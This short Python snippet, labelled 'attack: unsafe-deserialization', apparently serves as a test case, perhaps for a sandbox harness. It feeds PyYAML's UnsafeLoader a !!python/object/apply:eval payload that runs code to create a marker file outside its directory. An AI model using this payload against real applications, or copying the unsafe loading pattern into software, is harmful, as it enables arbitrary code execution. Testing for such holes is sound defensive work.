# attack: unsafe-deserialization
# needs: yaml
import yaml
yaml.load("!!python/object/apply:eval [\"open('outside/planted.txt', 'w').close()\"]", Loader=yaml.UnsafeLoader)
